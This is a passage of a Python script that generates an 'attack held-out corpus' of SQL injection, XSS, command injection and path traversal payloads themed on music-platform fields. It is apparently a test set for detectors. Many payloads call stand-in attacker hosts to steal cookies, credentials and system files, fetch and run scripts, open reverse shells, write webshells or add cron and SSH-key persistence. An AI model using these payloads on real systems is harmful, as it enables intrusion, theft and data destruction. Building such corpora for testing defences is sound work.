"""Attack held-out corpus for the music production & distribution platform.

Each value is a working payload against a vulnerable app that puts the value
where its class says: the class is "<context>-<technique>[+<encoding>]", e.g.
"isrc-boolean_substring" = concatenated into a SQL WHERE on the ISRC column,
"stem_file-semicolon" = concatenated into a shell line that transcodes a stem,
"cover_url-imds_hex+hex_ip" = fetched server-side as cover art, host written in hex.
"plain-..." classes carry the payload without domain text.

Contexts are the fields of a music platform: track/album titles, ISRC/UPC codes,
lyrics, liner notes, chord charts, setlists, DAW presets, stem and sample paths,
cover-art URLs, import URLs, webhooks, royalty split CSV exports, MusicXML and
DDEX uploads, MIDI/OSC labels, staff directory lookups, mail and log lines.

Most values are hand-written literals; the rest come from small templates over
hand-written pools (domain text + hand-written payload fragments) and from
encoding helpers (URL-encoding once/twice, IP re-encoding). Attacker hosts are
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; every
secret is a fake placeholder. Standard library only, fixed seed, byte-identical.
Run: python3 make_attacks.py  (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 5902
PREFIX = "ha59"

QUOTA = {
    "sqli": 78, "xss": 74, "cmdi": 74, "traversal": 53, "ssrf": 53,
    "code": 80, "nosqli": 26, "crlf": 30, "ldap-xpath": 22,
}


def url1(s):
    return quote(s, safe="")


def url2(s):
    return url1(url1(s))


# ---------------------------------------------------------------------------
# sqli: value concatenated into a SQL statement
# ---------------------------------------------------------------------------
SQLI = [
    ("search-union_select", "Night Drive' UNION SELECT id, email, password_hash, NULL FROM users-- -"),
    ("isrc-boolean_substring", "GBXY12400123' AND SUBSTRING((SELECT password_hash FROM admins LIMIT 1),1,1)='$' AND '1'='1"),
    ("isrc-tautology", "GB-XY1-24-00123' OR '1'='1' -- "),
    ("title-time_sleep_mysql", "Midnight in Lagos' AND SLEEP(5) AND 'x'='x"),
    ("title-time_pg_sleep", "Paper Boats' AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL-- "),
    ("upc-stacked_waitfor", "0123456789012; WAITFOR DELAY '0:0:7'--"),
    ("upc-numeric_union", "0123456789012 UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables"),
    ("artist-error_extractvalue", "Ana Ruiz' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e))-- -"),
    ("artist-error_updatexml", "K-Drop' AND updatexml(null, concat(0x3a, (select user())), null)#"),
    ("genre-union_sqlite_master", "Deep House' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("bpm-numeric_subquery", "124 AND 1=(SELECT COUNT(*) FROM users WHERE role='admin')"),
    ("bpm-order_by_probe", "124 ORDER BY 7-- "),
    ("key-error_case_pg", "Am' AND 1=(SELECT CASE WHEN (SELECT substr(api_key,1,1) FROM labels WHERE id=1)='k' THEN 1 ELSE 1/0 END)--"),
    ("split-insert_values", "Ana Ruiz', (SELECT GROUP_CONCAT(email) FROM users))-- -"),
    ("notes-update_set", "fixed the intro', owner_id=1, is_verified=1 WHERE 1=1-- "),
    ("sort-order_by_case", "(CASE WHEN (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 THEN title ELSE bpm END)"),
    ("label-stacked_copy_program", "Night Owl'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p | sh'-- "),
    ("label-stacked_xp_cmdshell", "Night Owl'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.9'--"),
    ("label-oob_xp_dirtree", "Union Square Music'; EXEC master..xp_dirtree '\\\\203.0.113.7\\share'--"),
    ("lyrics-union_load_file", "select me from the crowd' UNION SELECT LOAD_FILE('/etc/passwd'), 2, 3-- -"),
    ("notes-union_into_outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2, 3 INTO OUTFILE '/var/www/html/c.php'-- -"),
    ("artist-union_oracle_all_tables", "Nachtfahrt' UNION SELECT owner, table_name FROM all_tables--"),
    ("isrc-time_oracle_pipe", "GBXY12400123' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 6)--"),
    ("title-oob_oracle_utl_http", "Low Tide'||UTL_HTTP.REQUEST('http://attacker.example/o?u='||(SELECT user FROM dual))||'"),
    ("search-time_benchmark", "Golden Hour' OR BENCHMARK(20000000, SHA1('x'))-- -"),
    ("search-time_sqlite_randomblob", "Glasshouse' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("search-like_tautology", "%' OR 1=1 OR title LIKE '%"),
    ("search-union_select+comment_spaces", "'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/users#"),
    ("artist-union_select+case_mix", "' uNiOn SeLeCt null, concat(username, 0x3a, password_hash) fRoM users-- -"),
    ("genre-union_hex_literal_schema", "x' UNION SELECT 1, table_name FROM information_schema.tables WHERE table_schema=0x6d75736963-- -"),
    ("artist-char_function_tautology", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("stem-stacked_drop", "Bass DI'; DROP TABLE stems;--"),
    ("chart-union_version", "Am7 | D7/F#' UNION SELECT version(), current_user-- "),
    ("lyrics-error_cast_pg", "say my name' AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)-- "),
    ("title-error_convert_mssql", "Hymn No. 7' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases))--"),
    ("track_id-boolean_ascii", "42 AND ASCII(SUBSTRING(DATABASE(),1,1))>100"),
    ("playlist-in_list_breakout", "12,13) OR (1=1"),
    ("limit-procedure_analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x7e, version())), 1)"),
    ("search-having_error_mssql", "Slow Burn' GROUP BY id HAVING 1=1--"),
    ("title-union_select+versioned_comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1, user(), 3-- -"),
    ("metadata-json_field_tautology", "{\"isrc\": \"GBXY12400123' OR '1'='1\", \"territory\": \"WW\"}"),
    ("setlist-stacked_insert_admin", "Opener'); INSERT INTO users(username, password_hash, role) VALUES('ghost', 'x', 'admin');-- "),
    ("isrc-time_conditional_mysql", "GBXY12400123' AND IF(ASCII(SUBSTRING((SELECT password_hash FROM users LIMIT 1),1,1))>77, SLEEP(4), 0)-- -"),
    ("upc-time_pg_sleep", "0123456789012 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("artist-time_conditional_mssql", "Ana'; IF (SELECT COUNT(*) FROM users WHERE username='admin' AND SUBSTRING(password_hash,1,1)='a')=1 WAITFOR DELAY '0:0:5'--"),
    ("royalty-union_columns", "Q2' UNION SELECT column_name, data_type FROM information_schema.columns WHERE table_name='royalty_payouts'-- -"),
    ("royalty-union_group_concat", "-1' UNION SELECT 1, GROUP_CONCAT(isrc, ':', payout_iban SEPARATOR ';'), 3 FROM payouts-- -"),
    ("release-double_quote_tautology", "Nuit Blanche\" OR \"1\"=\"1"),
    ("genre-paren_tautology", "House') OR ('1'='1"),
    ("sort-stacked_pg_sleep", "title; SELECT pg_sleep(5)--"),
    ("title-arithmetic_sleep", "' - (SELECT SLEEP(3)) - '"),
    ("artist-error_oracle_ctxsys", "Kofi' AND 1=CTXSYS.DRITHSX.SN(1, (SELECT user FROM dual))--"),
    ("notes-stacked_sqlite_attach", "ok'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t(c text); INSERT INTO x.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("lyrics-union_pg_read_file", "hold on' UNION SELECT pg_read_file('/etc/passwd', 0, 2000), NULL-- "),
    ("search-union_server_vars", "Tin Roof Rain' UNION SELECT @@hostname, @@datadir-- -"),
    ("title-boolean_bcrypt_prefix", "Mind Over Matter' AND (SELECT 1 FROM users WHERE username='admin' AND password_hash LIKE '$2b$%')='1"),
    ("search-union_select+newline_spaces", "'\nUNION\nSELECT\nemail,\npassword_hash\nFROM\nusers--"),
    ("isrc-tautology+tab_spaces", "GBXY12400123'\tOR\t1=1--\t"),
    ("label-oob_mssql_declare", "x';declare @q varchar(99);set @q='\\\\203.0.113.7\\x'+(select top 1 name from sys.tables);exec master..xp_dirtree @q;--"),
    ("sort-order_by_sleep", "bpm, (SELECT SLEEP(5))"),
    ("comment-insert_subquery", "Great mix!', 1, (SELECT password_hash FROM users WHERE id=1))-- -"),
    ("label-stacked_shutdown", "Night Owl'; SHUTDOWN WITH NOWAIT;--"),
    ("track_id-union_concat", "1 UNION SELECT username||':'||password_hash, 2 FROM users"),
    ("chart-boolean_exists", "Cmaj7' AND EXISTS(SELECT 1 FROM users WHERE email LIKE '%@nightowl%')-- "),
    ("preset-stacked_update_role", "Warm Glue'; UPDATE users SET role='admin' WHERE username='kofi';--"),
    ("isrc-error_double_query", "GB' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -"),
    ("title-boolean_json_operator", "Paper Boats' OR (SELECT metadata->>'api_token' FROM integrations LIMIT 1) IS NOT NULL-- "),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-comment_login", "admin'--"),
    ("plain-stacked_drop", "1; DROP TABLE users"),
    ("plain-union_nulls", "' UNION SELECT NULL, NULL, NULL--"),
    ("plain-time_sleep", "1' AND SLEEP(5)#"),
    ("plain-double_quote_paren", "\") OR (\"a\"=\"a"),
    ("plain-paren_tautology", "') OR ('x'='x"),
]

SQ_TITLES = ["Night Drive", "Paper Boats", "Golden Hour", "Low Tide", "Glasshouse",
             "Second Wind", "Nuit Blanche", "Tú y yo", "Saudade", "Hollow Tree"]
SQ_SUFFIX = [
    ("search-tautology", "' OR 'a'='a"),
    ("search-time_sleep_mysql", "' AND SLEEP(4)-- -"),
    ("search-union_select", "' UNION SELECT username, password_hash FROM users-- -"),
    ("search-boolean_count", "' AND (SELECT COUNT(*) FROM users) > 3-- -"),
    ("search-stacked_pg_sleep", "'; SELECT pg_sleep(4)--"),
]
SQ_ENC_BASE = [
    ("search-union_select", "Night Drive' UNION SELECT email, password_hash FROM users-- -"),
    ("isrc-tautology", "GBXY12400123' OR '1'='1"),
    ("title-time_sleep_mysql", "Low Tide' AND SLEEP(5)-- -"),
]


def tpl_sqli(rng):
    if rng.randrange(3) == 0:
        cls, base = rng.choice(SQ_ENC_BASE)
        if rng.randrange(2) == 0:
            return cls + "+url", url1(base)
        return cls + "+url2", url2(base)
    cls, suffix = rng.choice(SQ_SUFFIX)
    return cls, rng.choice(SQ_TITLES) + suffix


# ---------------------------------------------------------------------------
# xss: value written into HTML / JS without escaping
# ---------------------------------------------------------------------------
XSS = [
    ("lyrics-script_tag", "[Chorus]\nOh-oh, stay with me<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("bio-img_onerror", "Producer from Accra <img src=x onerror=\"new Image().src='//attacker.example/?c='+encodeURIComponent(document.cookie)\">"),
    ("title-svg_onload", "Night Drive <svg onload=alert(document.domain)>"),
    ("comment-details_ontoggle", "love the drop!! <details open ontoggle=alert(document.cookie)>"),
    ("comment-audio_onerror_atob", "<audio src=/nope.mp3 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("bio-video_source_onerror", "<video><source onerror=\"alert(origin)\"></video> new EP out now"),
    ("website-javascript_url", "javascript:fetch('//attacker.example/'+localStorage.getItem('token'))"),
    ("website-javascript_url+html_entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie)"),
    ("website-javascript_url+tab_split", "java\tscript:alert(document.domain)"),
    ("cover_alt-attr_breakout_double", "Cover art\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("title_attr-attr_breakout_single", "Nuit Blanche' autofocus onfocus='alert(1)"),
    ("player_js-string_breakout", "Paper Boats';fetch('//attacker.example/k?'+document.cookie);//"),
    ("player_js-backslash_escape_bypass", "Paper Boats\\';alert(document.domain);//"),
    ("embed_json-script_close", "</script><script>alert(document.domain)</script>"),
    ("player_js-template_literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("notes-iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("notes_md-javascript_link", "[Listen on my site](javascript:alert(document.cookie))"),
    ("notes_md-image_attr_breakout", "![cover](x\" onerror=\"alert(1))"),
    ("bio-svg_style_mxss", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
    ("comment-body_onpageshow", "<body onpageshow=alert(document.cookie)>"),
    ("comment-input_autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("bio-object_data_uri_base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("notes-form_action", "<form action=javascript:alert(document.cookie)><button>Download stems</button></form>"),
    ("bio-href_colon_entity+html_entities", "<a href=\"javascript&colon;alert(document.domain)\">free sample pack</a>"),
    ("comment-keyframes_onanimationstart", "<style>@keyframes spin{}</style><div style=\"animation-name:spin\" onanimationstart=\"alert(1)\"></div>"),
    ("lyrics-svg_animate_onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("bio-svg_xlink_href", "<svg><a xlink:href=\"javascript:alert(document.cookie)\"><text x=\"20\" y=\"20\">Play</text></a></svg>"),
    ("cover_svg-onload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><rect width=\"3000\" height=\"3000\" fill=\"#111\"/></svg>"),
    ("bio-angular_csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("comment-img_onerror+unicode_escape", "<img src=x onerror=\"\\u0061lert(document.domain)\">"),
    ("comment-img_onerror+html_entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("title-script_tag+case_mix", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("comment-img_slash_separators", "<img/src/onerror=alert(document.domain)>"),
    ("comment-img_backtick_call", "<img src=x onerror=alert`1`>"),
    ("bio-throw_onerror_eval", "<svg onload=\"window.onerror=eval;throw'=alert\\x28document.domain\\x29'\">"),
    ("setlist-td_breakout", "3. Half/Full</td><td><img src=x onerror=alert(document.cookie)>"),
    ("notes-textarea_breakout", "</textarea><script>alert(document.domain)</script>"),
    ("title-title_breakout", "</title><svg onload=alert(document.domain)>"),
    ("bio-noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("notes-base_href_hijack", "<base href=\"https://attacker.example/\">"),
    ("chart-pre_breakout_script_src", "Am7 | D7/F# | G </pre><script src=https://attacker.example/x.js></script>"),
    ("comment-script_src_protocol_relative", "<script src=//attacker.example/p.js></script>"),
    ("comment-onpointerenter", "<p onpointerenter=alert(document.cookie)>hover the waveform</p>"),
    ("comment-img_srcset_onerror", "<img srcset=\",,,,x\" onerror=alert(document.domain)>"),
    ("title-marquee_onstart", "<marquee onstart=alert(document.domain)>NEW RELEASE</marquee>"),
    ("comment-select_autofocus", "<select autofocus onfocus=alert(document.cookie)></select>"),
    ("embed_json-img_onerror+unicode_escape", "\\u003cimg src=x onerror=alert(document.domain)\\u003e"),
    ("bio-jquery_getscript", "<img src=x onerror=$.getScript('//attacker.example/x.js')>"),
    ("bio-svg_script_href", "<svg><script href=\"data:,alert(document.domain)\"></script></svg>"),
    ("lyrics-svg_script+html_entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("comment-iframe_javascript_src", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("lyrics-anchor_onclick_csrf", "<a href=\"#\" onclick=\"fetch('/api/account/email',{method:'POST',body:'owner@attacker.example'})\">Full lyrics</a>"),
    ("bio-dynamic_import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("comment-video_onerror", "<video src=x onerror=alert(document.domain)></video>"),
    ("bio-svg_foreignobject_iframe", "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe></foreignObject></svg>"),
    ("title_attr-unquoted_breakout", "Glasshouse onmouseover=alert(document.domain)"),
    ("player_onclick-js_breakout", "');alert(document.domain);//"),
    ("osc_label-innerhtml_img", "/fx/reverb/mix <img src=x onerror=alert(document.domain)>"),
    ("notes_md-inline_html", "**Credits**\n\n<img src=\"x\" onerror=\"alert(document.domain)\">\n\n*Mixed by Sam*"),
    ("bio-svg_onload+newline_separators", "<svg\nonload\n=\nalert(document.domain)>"),
    ("plain-script_alert", "<script>alert(1)</script>"),
    ("plain-attr_breakout_img", "\"><img src=x onerror=alert(1)>"),
    ("plain-svg_onload", "'><svg onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(1)"),
    ("plain-body_onload", "<body onload=alert(1)>"),
    ("plain-iframe_js", "<iframe src=javascript:alert(1)>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
]

XS_FIELD = [("title", SQ_TITLES),
            ("bio", ["Producer & DJ from Lisbon", "Singer-songwriter, Osaka", "Beatmaker (Lagos)",
                     "Berlin-based duo", "Jazz pianist turned producer"]),
            ("comment", ["great mix!", "love the drop", "this is fire 🔥", "10/10 would replay",
                         "that bassline tho"])]
XS_VECTOR = [
    ("img_onerror", "<img src=x onerror=alert(document.domain)>"),
    ("svg_onload", "<svg onload=alert(document.cookie)>"),
    ("details_ontoggle", "<details open ontoggle=alert(1)>"),
    ("script_tag", "<script>alert(document.domain)</script>"),
    ("audio_onerror", "<audio src=x onerror=alert(document.cookie)>"),
]


def tpl_xss(rng):
    field, texts = rng.choice(XS_FIELD)
    tech, vec = rng.choice(XS_VECTOR)
    if rng.randrange(3) == 0:
        if rng.randrange(2) == 0:
            return f"{field}-{tech}+url", url1(vec)
        return f"{field}-{tech}+url2", url2(vec)
    return f"{field}-{tech}", f"{rng.choice(texts)} {vec}"


# ---------------------------------------------------------------------------
# cmdi: value concatenated into a shell line (ffmpeg/sox/lame/tar/git/...)
# ---------------------------------------------------------------------------
CMDI = [
    ("ffmpeg_title-dquote_semicolon", "Night Drive\"; curl -s http://attacker.example/x.sh | sh; echo \""),
    ("ffmpeg_title-command_substitution", "Paper Boats $(id > /tmp/.p; curl -d @/tmp/.p http://attacker.example/r)"),
    ("ffmpeg_title-backticks", "Midnight in Lagos `wget -qO- http://203.0.113.10/b | bash`"),
    ("id3_title-squote_breakout", "Don't Look Back'; nc 203.0.113.5 4444 -e /bin/sh; echo '"),
    ("stem_file-semicolon", "vocals.wav;cat /etc/passwd"),
    ("stem_file-pipe_netcat", "kick.wav | nc 198.51.100.23 9001"),
    ("bounce_file-and_chain", "mix_v7.wav && curl http://attacker.example/$(whoami)"),
    ("stem_file-or_reverse_shell", "nonexistent.wav || bash -i >& /dev/tcp/203.0.113.8/443 0>&1"),
    ("stem_file-newline_separator", "bass.wav\nid"),
    ("sample_file-semicolon+ifs", "snare.wav;cat${IFS}/etc/shadow"),
    ("sample_file-brace_expansion", "hat.wav;{cat,/etc/passwd}"),
    ("sample_file-ansi_c_quoting+hex_escape", "clap.wav;$'\\x63\\x61\\x74' /etc/passwd"),
    ("waveform_file-base64_pipe+base64", "pad.wav; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"),
    ("stem_file-quote_insertion+quote_split", "fx.wav; c'a't /e\"t\"c/pas''swd"),
    ("stem_file-backslash_split+backslash", "perc.wav; w\\ho\\am\\i"),
    ("stem_file-glob_paths", "vox.wav; /???/c?t /???/p?ss??"),
    ("stem_file-variable_concat", "keys.wav; a=c;b=at;$a$b /etc/hostname"),
    ("stem_file-win_ampersand", "Stem 01.wav & whoami"),
    ("stem_file-win_powershell", "Stem 02.wav\" & powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\" & \""),
    ("stem_file-win_type", "Stem 03.wav | type C:\\Windows\\win.ini"),
    ("import_url-ytdlp_exec_option", "https://video.example/watch?v=abc123 --exec 'curl attacker.example/$(id -u)'"),
    ("cover_url-curl_output_option", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("archive_name-tar_checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh stems/run.sh"),
    ("archive_name-zip_tt_option", "stems.zip -T -TT 'sh -c id #'"),
    ("cover_file-time_blind_sleep", "cover.jpg\"; sleep 10; \""),
    ("stream_host-ping_timing", "icecast.local; ping -c 10 127.0.0.1"),
    ("stem_file-dns_exfil", "x.wav; nslookup $(whoami).attacker.example"),
    ("ffmpeg_title-sleep_substitution", "Golden Hour $(sleep 7)"),
    ("stem_file-process_substitution", "x.wav <(curl -s attacker.example/p | sh)"),
    ("sox_effects-chain_injection", "reverb 50 highpass 80; curl -F f=@/etc/passwd http://attacker.example/u"),
    ("lame_comment-env_exfil", "Great mix $(cat /proc/self/environ | curl --data-binary @- http://attacker.example/e)"),
    ("stem_file-newline_separator+url", "x.wav%0aid"),
    ("stem_file-semicolon+url", "x.wav%3Bcurl%20http%3A%2F%2Fattacker.example%2F%24%28hostname%29"),
    ("stem_file-python_reverse_shell", "x.wav; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.4\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("stem_file-perl_oneliner", "x.wav; perl -e 'system(\"id > /tmp/p\")'"),
    ("stem_file-php_cli", "x.wav; php -r 'echo shell_exec(\"uname -a\");'"),
    ("split_csv-awk_program", "1} BEGIN {system(\"cat /etc/passwd\")} {print $1"),
    ("repo_url-git_ext_transport", "ext::sh -c touch% /tmp/pwned"),
    ("repo_url-git_upload_pack_option", "--upload-pack=touch /tmp/pwned"),
    ("osc_address-dquote_breakout", "/synth/1/freq\"; id; \""),
    ("stem_file-win_ampersand+caret", "x.wav & w^h^o^a^m^i"),
    ("stem_file-win_iex_download", "x.wav & powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\""),
    ("stem_file-win_ping_timing", "x.wav || ping -n 21 127.0.0.1"),
    ("ffmpeg_title-bash_read_file", "Nuit Blanche $(</etc/passwd)"),
    ("stem_file-dev_tcp_exfil", "x.wav;exec 3<>/dev/tcp/203.0.113.6/80;echo -e \"GET /?$(id|base64) HTTP/1.0\\r\\n\\r\\n\">&3"),
    ("stem_file-param_expansion_slash", "x.wav;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("stem_file-reversed_command", "x.wav;$(rev<<<'di')"),
    ("stem_file-xxd_dns_exfil", "x.wav;cat /etc/passwd|xxd -p|head -c 60|xargs -I{} nslookup {}.attacker.example"),
    ("stem_file-webshell_write", "x.wav; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/s.php"),
    ("stem_file-crontab_persistence", "x.wav; (crontab -l; echo '* * * * * curl -s attacker.example/b | sh') | crontab -"),
    ("stem_file-ssh_key_append", "x.wav; echo 'ssh-ed25519 AAAAFAKEPLACEHOLDERKEY attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("metaflac_tag-command_substitution", "TITLE=Second Wind$(curl -s http://203.0.113.12/t | sh)"),
    ("sample_rate-numeric_semicolon", "48000; id"),
    ("bitrate-numeric_backtick", "320k`id`"),
    ("normalize_target-newline_chain", "-14\ncurl http://attacker.example/n | sh"),
    ("ffmpeg_filter-dquote_download_exec", "loudnorm=I=-14:TP=-1\" ; wget http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m; \""),
    ("waveform_file-and_upload", "Paper Boats.wav && curl -T ~/.aws/credentials http://attacker.example/"),
    ("stem_file-find_exec", "x.wav; find / -name '*.env' -exec curl -F f=@{} http://attacker.example/ \\;"),
    ("import_url-semicolon_in_url", "https://soundcloud.example/artist/track;id"),
    ("stem_file-backtick_env_dump", "x.wav`env > /tmp/e`"),
    ("bpm_detect-curl_exfil+ifs", "x.wav;curl${IFS}http://attacker.example/${IFS}-d${IFS}@/etc/passwd"),
    ("ffmpeg_title-escaped_quote_bypass", "Kill the Lights\\\"; id; echo \\\""),
    ("chart_pdf-latex_write18", "\\immediate\\write18{curl http://attacker.example/l | sh}"),
    ("chart_lilypond-scheme_system", "\\relative c' { c4 d e f } #(system \"curl http://attacker.example/ly | sh\")"),
    ("plain-semicolon_id", "; id"),
    ("plain-pipe_whoami", "| whoami"),
    ("plain-dollar_paren", "$(id)"),
    ("plain-backtick_uname", "`uname -a`"),
    ("plain-and_cat", "&& cat /etc/passwd"),
    ("plain-sleep", "; sleep 10"),
    ("plain-netcat_shell", "| nc 203.0.113.1 4444 -e /bin/sh"),
]

CM_STEM = ["01_Kick.wav", "02_Snare.wav", "04_Bass_DI.wav", "06_Lead_Vox.wav",
           "Pads & Textures.wav", "NightDrive_mix_v7.wav", "Gtr_Take3_comp.wav"]
CM_SEP = [("semicolon", "; "), ("and_chain", " && "), ("pipe", " | "), ("or_chain", " || "),
          ("newline_separator", "\n")]
CM_CMD = ["curl -s http://attacker.example/i | sh", "id | curl -d @- http://203.0.113.21/",
          "wget -qO /tmp/.x http://198.51.100.9/x && sh /tmp/.x", "cat /etc/passwd",
          "sleep 8", "nslookup $(hostname).attacker.example"]


def tpl_cmdi(rng):
    tech, sep = rng.choice(CM_SEP)
    return f"stem_file-{tech}", f"{rng.choice(CM_STEM)}{sep}{rng.choice(CM_CMD)}"


# ---------------------------------------------------------------------------
# traversal: value used as (part of) a file path
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("stem_download-dotdot", "../../../../etc/passwd"),
    ("sample_browse-dotdot_in_pack", "Drums/Kicks/../../../../../../etc/passwd"),
    ("preset_load-windows_backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("preset_load-ssh_key", "../../../../root/.ssh/id_rsa"),
    ("stem_download-proc_environ", "../../../../proc/self/environ"),
    ("lyrics_file-dotenv", "../../.env"),
    ("template_name-app_settings", "../../config/settings.py"),
    ("cover_path-rails_db_config", "../../../app/config/database.yml"),
    ("stem_download-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("stem_download-dotdot+url2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("sample_browse-dotdot+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("sample_browse-slash+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("preset_load-nested_strip", "....//....//....//etc/passwd"),
    ("preset_load-dot_slash_nested", "..././..././..././etc/passwd"),
    ("stem_download-dotdot_ext+null_byte", "../../../../etc/passwd%00.wav"),
    ("waveform_cache-absolute_log", "/var/log/nginx/access.log"),
    ("preset_load-webinf", "../../WEB-INF/web.xml"),
    ("sample_browse-backslash+url", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("sample_browse-slash+iis_unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("sample_pack_zip-zip_slip_webroot", "Drums/../../../../../var/www/html/shell.php"),
    ("sample_pack_zip-zip_slip_startup", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\update.bat"),
    ("secrets-docker_secret", "../../../../run/secrets/db_password"),
    ("stem_download-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("preset_load-aws_credentials", "../../../../home/app/.aws/credentials"),
    ("lyrics_file-bash_history", "../../../../root/.bash_history"),
    ("template_name-proc_cwd", "/proc/self/cwd/app.py"),
    ("lyrics_file-php_filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("sample_browse-mixed_slashes", "..\\/..\\/..\\/..\\/etc/passwd"),
    ("stem_download-dot_segments", "/./././././../../../etc/passwd"),
    ("cover_path-windows_sam", "C:\\Windows\\System32\\config\\SAM"),
    ("stem_download-dotdot+partial_url", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("admin_asset-tomcat_path_param", "..;/..;/manager/html"),
    ("sample_browse-git_config", "../../../.git/config"),
    ("cover_path-htpasswd", "../../.htpasswd"),
    ("preset_load-nginx_conf", "../../../../etc/nginx/nginx.conf"),
    ("sample_browse-field_recordings_escape", "Samples/Field Recordings/../../../../etc/shadow"),
    ("bounce_download-after_filename", "Bounces/Mixdowns/NightDrive_mix_v7.wav/../../../../../../etc/passwd"),
    ("lyrics_file-locale_proc_version", "lyrics/en/../../../../../proc/version"),
    ("locale-zoneinfo_detour", "../../../../../../usr/share/zoneinfo/../../../etc/group"),
    ("stem_download-dotdot+unicode_fullwidth", "．．／．．／．．／．．／etc／passwd"),
    ("daw_project-ardour_interchange_escape", "/home/lena/Music/ardour/Night Drive/interchange/../../../../../../etc/passwd"),
    ("kontakt_library-windows_drive_escape", "Kontakt Instruments\\Felt Piano\\..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("stem_download-proc_cmdline", "../../../../../proc/self/cmdline"),
    ("preset_load-tls_private_key", "../../../certs/server.key"),
    ("font_asset-absolute_shadow", "/etc/shadow"),
    ("sample_browse-long_dotdot_chain", "../../../../../../../../../../../../../../etc/hosts"),
    ("plain-dotdot_passwd", "../../../etc/passwd"),
    ("plain-windows_boot_ini", "..\\..\\..\\boot.ini"),
    ("plain-absolute_passwd", "/etc/passwd"),
    ("plain-dotdot_win_ini", "../../../../windows/win.ini"),
    ("plain-dotdot+url", "..%2f..%2f..%2fetc%2fpasswd"),
]

TR_PACK = ["Lo-Fi Keys Vol. 2", "Afro House Essentials", "Cinematic Hits", "Dusty Breaks"]
TR_FOLDER = ["Kicks", "Loops", "One-Shots", "Vocals"]
TR_TARGET = ["etc/passwd", "etc/hosts", "proc/self/environ", "root/.ssh/id_rsa",
             "var/www/.env", "etc/mysql/my.cnf"]


def tpl_traversal(rng):
    depth = rng.randrange(5, 9)
